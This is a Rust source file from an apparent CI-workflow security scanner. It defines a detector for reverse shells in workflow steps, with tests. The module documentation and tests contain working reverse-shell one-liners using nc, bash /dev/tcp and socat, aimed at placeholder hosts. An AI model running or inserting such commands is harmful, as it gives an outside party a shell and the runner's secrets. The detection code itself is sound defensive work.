//! A shell is connected to an address, for somebody to type into.
//!
//! No secret is named, and all of them can be taken: whoever sits at the other end reads the environment and the memory
//! of the runner, and goes on from there.
//!
//! ```yaml
//! - run: nc -e /bin/sh shell.example 4444
//! ```

use crate::flow::trace::ObservationKind;
use crate::signal::Signal;
use crate::technique::{Evidence, Sighting, Technique};

/// See the module's documentation.
pub(super) struct ReverseShell;

impl Technique for ReverseShell {
    fn id(&self) -> &'static str {
        "reverse-shell"
    }
    fn headline(&self) -> &'static str {
        "a shell is handed to whoever listens elsewhere"
    }
    fn remedy(&self) -> &'static str {
        "take the workflow out, and invalidate every secret that its jobs could reach"
    }
    fn source(&self) -> &'static str {
        include_str!("reverse_shell.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        evidence
            .trace
            .observations
            .iter()
            .enumerate()
            .filter(|(_, observation)| observation.kind == ObservationKind::ReverseShell)
            .map(|(at, _)| Sighting {
                observations: vec![at],
                signals: [Signal::ReverseShell].into(),
                ..Sighting::default()
            })
            .take(1)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    fn step(run: &str) -> String {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {run}\n"
        )
    }

    #[test]
    fn the_usual_forms() {
        for run in [
            "nc -e /bin/sh shell.example 4444",
            "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "socat exec:'bash -li',pty,stderr tcp:shell.example:4444",
        ] {
            check("reverse-shell", &step(run), Verdict::Malicious, &[], &[]);
        }
    }

    #[test]
    fn a_port_check_is_none() {
        silent(&step("nc -z localhost 5432"));
        silent(&step("timeout 1 bash -c '</dev/tcp/db.widgets.example/5432'"));
    }
}
